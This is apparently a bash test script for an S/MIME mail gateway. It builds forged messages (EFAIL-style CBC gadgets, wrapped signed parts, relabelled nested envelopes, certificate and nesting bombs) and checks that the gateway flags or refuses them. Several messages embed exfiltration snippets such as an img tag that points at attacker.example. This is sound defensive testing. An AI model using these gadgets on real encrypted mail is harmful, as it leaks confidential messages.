#!/usr/bin/env bash
# Attacks on the S/MIME layers of incoming mail (issue 8): a failed outer
# signature that hid the inner layers (item 3), CBC gadgets made from a
# captured message and signed content wrapped in other parts (item 5),
# nested envelopes relabelled as something else (item 10), and the
# ceilings: layers, certificates and signers per SignedData, MIME depth
# (item 16).  Each message is made with openssl cms as a peer, hostile
# ones from captured ones by tests/tools/cms_forge.py, and goes through
# smimegw process (result.json) or message open (the result fields).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/pki.sh"
setup_token
echo "authserv_id = gw.test" >>"$T/smimegw.conf"
FORGE="python3 $SRCDIR/tests/tools/cms_forge.py"
GOOD="basicConstraints=critical,CA:FALSE;extendedKeyUsage=emailProtection"
SIGN="keyUsage=critical,digitalSignature"
mkca "$T/ca" "Partner CA"
mkca "$T/rogue" "Rogue CA"
mkee "$T/ca" bob rsa:2048 "$GOOD;$SIGN;subjectAltName=email:bob@example1.com"
mkee "$T/rogue" mallory rsa:2048 "$GOOD;$SIGN;subjectAltName=email:bob@example1.com"
gw cert create gw --cn gw.corp.example --country DE --days 30 \
	--san-dns corp.example --key rsa:2048 >/dev/null
gw cert export gw >"$T/gw.pem"
gw ca add "$T/ca/ca.pem" >/dev/null

HDR='From: bob@example1.com\r\nTo: alice@corp.example\r\nSubject: layers\r\n'
# msg FILE ENTITY : FILE is our outer fields, then the entity.
msg() { { printf "$HDR"; cat "$2"; } >"$1"; }
sign() { # sign SIGNER IN OUT [opaque]
	openssl cms -sign -signer "$T/$1.pem" -inkey "$T/$1.key" -in "$2" \
		-crlfeol ${4:+-nodetach} -out "$3" 2>/dev/null
}
enc() { # enc CIPHER IN OUT
	openssl cms -encrypt "-$1" -in "$2" -crlfeol -out "$3" "$T/gw.pem" 2>/dev/null
}
# run NAME EXIT DIR FILE : smimegw process, incoming; exit status EXIT.
run() {
	local rc
	rm -rf "$3"
	${WRAP:-} "$SMIMEGW" -c "$T/smimegw.conf" process --out-dir "$3" \
		--direction incoming --from bob@example1.com \
		--to alice@corp.example -i "$4" >"$T/out" 2>"$T/err"
	rc=$?
	same "$1: exit status $2" "$rc" "$2"
	[ "$rc" = "$2" ] || sed 's/^/     | /' "$T/err" | head -10
}
j() { jq -r "$2" "$1/result.json" 2>&1; }
flags() { j "$1" '.flags | "verified=\(.["smime-gateway-verified"]) unauth=\(.["unauthenticated-encryption"])"'; }
# open FILE OUT : message open; its exit status is echoed.
open_msg() { gw message open -i "$1" -o "$2" 2>"$T/err"; echo $?; }
# The result fields of an output, unfolded, one per line.
results() { sed -n '1,/^X-SMIME-Gateway/p; /^X-SMIME-Gateway/,/^[^[:space:]]/p' "$1" |
	tr -d '\r' | sed -e ':a' -e 'N;$!ba' -e 's/\n[[:space:]]\+/ /g'; }
# before FILE A B : A occurs in FILE before B.
before() {
	local a b
	a=$(grep -boa -F -- "$2" "$1" | head -1 | cut -d: -f1)
	b=$(grep -boa -F -- "$3" "$1" | head -1 | cut -d: -f1)
	[ -n "$a" ] && [ -n "$b" ] && [ "$a" -lt "$b" ]
}

printf 'Content-Type: text/plain\r\n\r\nthe quarterly figures\r\n' >"$T/plain.txt"
sign bob "$T/plain.txt" "$T/bob-signed.ent"

# ---- item 3: a failed outer signature does not hide the inner layers --------
# Triple wrap: bob signs, encrypts to us, and the outer signature is by a
# signer from an untrusted CA (detached, then opaque).
enc aes256 "$T/bob-signed.ent" "$T/env.ent"
sign mallory "$T/env.ent" "$T/outer.ent"
msg "$T/i3.eml" "$T/outer.ent"
D=$T/i3
run item03_untrusted_outer_signature 0 "$D" "$T/i3.eml"
same "item03_untrusted_outer_signature: inner layers opened" \
	"$(j "$D" '.smime | "\(.layers) decrypted=\(.decrypted) signatures=\(.signatures) failed=\(.signatures_failed)"')" \
	"signed-data,enveloped-data,signed-data decrypted=1 signatures=1 failed=1"
same "item03_untrusted_outer_signature: each layer reported in result.json" \
	"$(j "$D" '[.smime.each[] | "\(.layer):\(.result)"] | join(",")')" \
	"signed-data:fail,enveloped-data:decrypted,signed-data:pass"
same "item03_untrusted_outer_signature: the message's result is the failure" \
	"$(j "$D" '.smime.result')" fail
same "item03_untrusted_outer_signature: not verified (policy decides)" \
	"$(j "$D" '.flags["smime-gateway-verified"]')" false
has "item03_untrusted_outer_signature: plaintext delivered" "$D/copy-1.eml" \
	"the quarterly figures"
results "$D/copy-1.eml" >"$T/r3"
matches "item03_untrusted_outer_signature: Authentication-Results has both signatures" "$T/r3" \
	'^Authentication-Results: gw\.test; smime=fail reason="signer certificate not trusted[^"]*"; smime=pass body\.smime-identifier="bob@example1\.com"$'
matches "item03_untrusted_outer_signature: the flags count the failed one" "$T/r3" \
	'layers=signed-data,enveloped-data,signed-data; signatures-failed=1'

sign mallory "$T/env.ent" "$T/outer-op.ent" opaque
msg "$T/i3b.eml" "$T/outer-op.ent"
same "item03_untrusted_outer_opaque_signature: message open exits 1" \
	"$(open_msg "$T/i3b.eml" "$T/o3b.eml")" 1
has "item03_untrusted_outer_opaque_signature: plaintext delivered" "$T/o3b.eml" \
	"the quarterly figures"
results "$T/o3b.eml" >"$T/r3b"
matches "item03_untrusted_outer_opaque_signature: both results" "$T/r3b" \
	'smime=fail reason="[^"]*"; smime=pass body\.smime-identifier="bob@example1\.com"'

# The outer signature altered in transit: one byte of the envelope it
# covers is changed in a way that leaves the envelope readable (a
# header of the signed entity).
sign bob "$T/env.ent" "$T/outer-good.ent"
sed 's/^Content-Disposition: attachment; filename="smime.p7m"/Content-Disposition: attachment; filename="smime.p7x"/' \
	"$T/outer-good.ent" >"$T/outer-bad.ent"
msg "$T/i3c.eml" "$T/outer-bad.ent"
D=$T/i3c
run item03_altered_outer_signature 0 "$D" "$T/i3c.eml"
same "item03_altered_outer_signature: each layer" \
	"$(j "$D" '[.smime.each[] | "\(.layer):\(.result)"] | join(",")')" \
	"signed-data:fail,enveloped-data:decrypted,signed-data:pass"
matches "item03_altered_outer_signature: why" "$D/result.json" \
	'"reason": "signature does not match the content'

# A failed innermost signature stays as it came (never removed).
sign mallory "$T/plain.txt" "$T/m-signed.ent"
msg "$T/i3d.eml" "$T/m-signed.ent"
gw message open --remove-signature -i "$T/i3d.eml" -o "$T/o3d.eml" 2>/dev/null
same "item03_failed_innermost_signature_left_in_place" \
	"$(sed '1,/^\tlayers=/d' "$T/o3d.eml" | md5sum)" "$(md5sum <"$T/i3d.eml")"

# ---- item 5: CBC gadgets, and what "verified" covers ---------------------------
printf '%s\r\n' 'Content-Type: text/html; charset=us-ascii' '' \
	'<p>The secret: the merger closes on Friday.</p>' >"$T/secret.html"
openssl cms -encrypt -aes-256-cbc -in "$T/secret.html" -binary -outform DER \
	-out "$T/cap.der" "$T/gw.pem" 2>/dev/null
# The captured message, as it went by.
{
	printf "$HDR"
	printf '%s\r\n' 'MIME-Version: 1.0' \
		'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m' \
		'Content-Transfer-Encoding: base64' ''
	base64 -w 64 "$T/cap.der" | sed 's/$/\r/'
} >"$T/cap.eml"
D=$T/i5cap
run "item05_captured_cbc_message" 0 "$D" "$T/cap.eml"
same "item05_captured_cbc_message: not verified by itself, flagged" "$(flags "$D")" \
	"verified=false unauth=true"

# The gadget: known first block "Content-Type: te", attacker HTML placed
# right before the secret, without any key.
$FORGE cbc-gadget "$T/cap.der" 'Content-Type: te' \
	'<img alt="x" /> ' '<b>ATTACKER</b> ' '<a href="http://' >"$T/gadget.der" ||
	echo "FAIL cms_forge cbc-gadget"
{
	printf "$HDR"
	printf '%s\r\n' 'MIME-Version: 1.0' \
		'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m' \
		'Content-Transfer-Encoding: base64' ''
	base64 -w 64 "$T/gadget.der" | sed 's/$/\r/'
} >"$T/gadget.eml"
D=$T/i5g
run item05_cbc_gadget 0 "$D" "$T/gadget.eml"
ok "item05_cbc_gadget: the gadget decrypts (attacker HTML, then the secret)" \
	before "$D/copy-1.eml" '<b>ATTACKER</b>' 'The secret: the merger'
same "item05_cbc_gadget: not verified, flagged unauthenticated" "$(flags "$D")" \
	"verified=false unauth=true"
matches "item05_cbc_gadget: X-SMIME-Gateway says so" "$D/copy-1.eml" \
	'smime-gateway-verified=0;'
matches "item05_cbc_gadget: unauthenticated-encryption flag" "$D/copy-1.eml" \
	'; unauthenticated-encryption=1'

# Signed inside CBC: the signature covers what is delivered.
enc aes256 "$T/bob-signed.ent" "$T/se.ent"
msg "$T/i5s.eml" "$T/se.ent"
D=$T/i5s
run item05_cbc_signed_inside 0 "$D" "$T/i5s.eml"
same "item05_cbc_signed_inside: verified, not flagged" "$(flags "$D")" \
	"verified=true unauth=false"

# Signed content wrapped in another part inside CBC (what a gadget makes
# of a signed message): not verified.
{
	printf '%s\r\n' 'Content-Type: multipart/mixed; boundary="w"' '' '--w' \
		'Content-Type: text/html' '' '<img src="http://attacker.example/?' '--w'
	cat "$T/bob-signed.ent"
	printf '\r\n--w--\r\n'
} >"$T/wrapped.ent"
enc aes256 "$T/wrapped.ent" "$T/wrapped-env.ent"
msg "$T/i5w.eml" "$T/wrapped-env.ent"
D=$T/i5w
run item05_cbc_wrapped_signed_part 0 "$D" "$T/i5w.eml"
same "item05_cbc_wrapped_signed_part: not verified, flagged" "$(flags "$D")" \
	"verified=false unauth=true"

# Text after the close delimiter of the signed message: not covered.
{ cat "$T/bob-signed.ent"; printf '<img src="http://attacker.example/?\r\n'; } >"$T/trail.ent"
enc aes256 "$T/trail.ent" "$T/trail-env.ent"
msg "$T/i5t.eml" "$T/trail-env.ent"
D=$T/i5t
run item05_cbc_signed_with_trailing_text 0 "$D" "$T/i5t.eml"
same "item05_cbc_signed_with_trailing_text: signature passes" "$(j "$D" .smime.result)" pass
same "item05_cbc_signed_with_trailing_text: not verified, flagged" "$(flags "$D")" \
	"verified=false unauth=true"
gw message open --remove-signature -i "$T/i5t.eml" -o "$T/o5t.eml" 2>/dev/null
matches "item05_cbc_signed_with_trailing_text: verified once the signature (and the text) is removed" \
	"$T/o5t.eml" 'smime-gateway-verified=1;'

# The same wrapping without encryption is not verified either.
msg "$T/i5p.eml" "$T/wrapped.ent"
D=$T/i5p
run item05_plain_wrapped_signed_part 0 "$D" "$T/i5p.eml"
same "item05_plain_wrapped_signed_part: not verified" "$(flags "$D")" \
	"verified=false unauth=false"

# AES-GCM (AuthEnvelopedData) is authenticated.
enc aes-256-gcm "$T/plain.txt" "$T/gcm.ent"
msg "$T/i5a.eml" "$T/gcm.ent"
D=$T/i5a
run item05_gcm_authenticated 0 "$D" "$T/i5a.eml"
same "item05_gcm_authenticated: verified, not flagged" "$(flags "$D")" \
	"verified=true unauth=false"

# ---- item 10: a nested envelope relabelled -----------------------------------
enc aes256 "$T/plain.txt" "$T/inner-env.ent"
b64body() { sed '1,/^\r\{0,1\}$/d' "$1"; } # the base64 body of an entity
# nested LABEL : multipart/mixed with a text part and the envelope
# under another label.
nested() {
	{
		printf "$HDR"
		printf '%s\r\n' 'MIME-Version: 1.0' \
			'Content-Type: multipart/mixed; boundary="n"' '' '--n' \
			'Content-Type: text/html' '' '<img src="http://attacker.example/?' '--n' \
			"Content-Type: $1" 'Content-Transfer-Encoding: base64' ''
		b64body "$T/inner-env.ent"
		printf '\r\n--n--\r\n'
	} >"$2"
}
n=0
for label in 'application/pkcs7-mime; smime-type=signed-data; name=smime.p7m' \
	'application/pkcs7-signature; name=smime.p7s' \
	'application/octet-stream; name=smime.p7s' \
	'application/x-pkcs7-mime; smime-type=certs-only'; do
	n=$((n + 1))
	nested "$label" "$T/i10-$n.eml"
	D=$T/i10-$n
	run "item10_relabelled_envelope_$n" 0 "$D" "$T/i10-$n.eml"
	same "item10_relabelled_envelope_$n ($label): flagged, not decrypted" \
		"$(j "$D" '"\(.flags["efail-nested-encrypted"]) \(.smime.result) \(.smime.decrypted)"')" \
		"true permerror 0"
	matches "item10_relabelled_envelope_$n: efail flag in the message" "$D/copy-1.eml" \
		'; efail-nested-encrypted=1'
done
# A genuine signed part nested in a multipart is no envelope.
sign bob "$T/plain.txt" "$T/op.ent" opaque
{
	printf "$HDR"
	printf '%s\r\n' 'MIME-Version: 1.0' 'Content-Type: multipart/mixed; boundary="n"' '' \
		'--n' 'Content-Type: text/plain' '' 'forwarded:' '--n' \
		'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m' \
		'Content-Transfer-Encoding: base64' ''
	b64body "$T/op.ent"
	printf '\r\n--n--\r\n'
} >"$T/i10ok.eml"
D=$T/i10ok
run item10_nested_signed_part_not_flagged 0 "$D" "$T/i10ok.eml"
same "item10_nested_signed_part_not_flagged: no EFAIL flag" \
	"$(j "$D" '.flags["efail-nested-encrypted"]')" false

# ---- item 16: ceilings --------------------------------------------------------
# nest N IN OUT : N detached signatures by bob around IN.
nest() {
	local i src=$2
	for i in $(seq 1 "$1"); do
		sign bob "$src" "$T/nest-$i.ent"
		src=$T/nest-$i.ent
	done
	msg "$3" "$src"
}
# Eight layers: seven signatures around an envelope (the innermost layer
# opened is the envelope: nothing is left to look at after it).
enc aes-256-gcm "$T/plain.txt" "$T/gcm-inner.ent"
nest 7 "$T/gcm-inner.ent" "$T/i16-8.eml"
D=$T/i16-8
run item16_eight_layers_open 0 "$D" "$T/i16-8.eml"
same "item16_eight_layers_open: all eight opened" \
	"$(j "$D" '"\(.smime.result) \(.smime.signatures) \(.smime.decrypted) \(.flags["smime-gateway-verified"])"')" \
	"pass 7 1 true"
has "item16_eight_layers_open: plaintext delivered" "$D/copy-1.eml" "the quarterly figures"
nest 8 "$T/gcm-inner.ent" "$T/i16-9.eml"
D=$T/i16-9
run item16_nine_layers_refused 0 "$D" "$T/i16-9.eml"
same "item16_nine_layers_refused: the ninth is a permerror, left in place" \
	"$(j "$D" '"\(.smime.result) \(.smime.signatures) \(.smime.decrypted) \(.smime.reason)"')" \
	"permerror 8 0 more than 8 S/MIME layers"

# Certificates and signers per SignedData: made from a captured message.
openssl cms -sign -signer "$T/bob.pem" -inkey "$T/bob.key" -in "$T/plain.txt" \
	-nodetach -binary -outform DER -out "$T/sd.der" 2>/dev/null
# opaque DER FILE : an opaque signed message of that SignedData.
opaque() {
	{
		printf "$HDR"
		printf '%s\r\n' 'MIME-Version: 1.0' \
			'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m' \
			'Content-Transfer-Encoding: base64' ''
		base64 -w 64 "$1" | sed 's/$/\r/'
	} >"$2"
}
$FORGE dup-certs "$T/sd.der" 64 >"$T/c64.der"
opaque "$T/c64.der" "$T/c64.eml"
D=$T/c64
run item16_64_certificates_accepted 0 "$D" "$T/c64.eml"
same "item16_64_certificates_accepted: verified" "$(j "$D" .smime.result)" pass
$FORGE dup-certs "$T/sd.der" 65 >"$T/c65.der"
opaque "$T/c65.der" "$T/c65.eml"
D=$T/c65
run item16_65_certificates_refused 65 "$D" "$T/c65.eml"
matches "item16_65_certificates_refused: says why" "$T/err" \
	'signed data with more than 64 certificates \(a ceiling\)'
same "item16_65_certificates_refused: nothing delivered" "$(ls "$D" | tr '\n' ' ')" "result.json "
$FORGE dup-certs "$T/sd.der" 5000 >"$T/c5k.der"
opaque "$T/c5k.der" "$T/c5k.eml"
start=$(date +%s%N)
refused "item16_5000_certificates_refused_before_parsing" "signed data with more than 64 certificates" \
	gw message open -i "$T/c5k.eml" -o "$T/o5k.eml"
ms=$((($(date +%s%N) - start) / 1000000))
ok "item16_5000_certificates_refused_before_parsing: in under 3 s (${ms} ms)" test "$ms" -lt 3000
$FORGE dup-signers "$T/sd.der" 17 >"$T/s17.der"
opaque "$T/s17.der" "$T/s17.eml"
run item16_17_signers_refused 65 "$T/s17" "$T/s17.eml"
matches "item16_17_signers_refused: says why" "$T/err" \
	'signed data with more than 16 signers \(a ceiling\)'
# The ceiling inside an envelope too.
printf 'Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n' >"$T/c65.ent"
base64 -w 64 "$T/c65.der" | sed 's/$/\r/' >>"$T/c65.ent"
enc aes256 "$T/c65.ent" "$T/c65-env.ent"
msg "$T/c65e.eml" "$T/c65-env.ent"
run item16_65_certificates_inside_envelope_refused 65 "$T/c65e" "$T/c65e.eml"

# MIME nested deeper than the parser's ceiling (32).
# deep N LEAF OUT : N nested multiparts around LEAF (an entity).
deep() {
	local i
	{
		printf "$HDR"
		printf 'MIME-Version: 1.0\r\n'
		for i in $(seq 1 "$1"); do
			printf 'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' "$i" "$i"
		done
		cat "$2"
		for i in $(seq "$1" -1 1); do
			printf '\r\n--b%d--\r\n' "$i"
		done
	} >"$3"
}
deep 40 "$T/plain.txt" "$T/deep.eml"
D=$T/deep
run item16_deep_ordinary_mail_delivered 0 "$D" "$T/deep.eml"
same "item16_deep_ordinary_mail_delivered: flagged" \
	"$(j "$D" '"\(.flags["mime-too-deep"]) \(.smime.result)"')" "true none"
same "item16_deep_ordinary_mail_delivered: unchanged below the result fields" \
	"$(sed '1,/^\tlayers=/d' "$D/copy-1.eml" | md5sum)" "$(md5sum <"$T/deep.eml")"
matches "item16_deep_ordinary_mail_delivered: flag in the message" "$D/copy-1.eml" \
	'; mime-too-deep=1'
# S/MIME past the ceiling is still refused.
sed '1,3d' "$T/deep.eml" >"$T/deep.ent"
sign bob "$T/deep.ent" "$T/deep-signed.ent"
msg "$T/deep-signed.eml" "$T/deep-signed.ent"
run item16_deep_smime_refused 65 "$T/deeps" "$T/deep-signed.eml"
matches "item16_deep_smime_refused: says why" "$T/err" 'MIME nesting deeper than 32'

finish
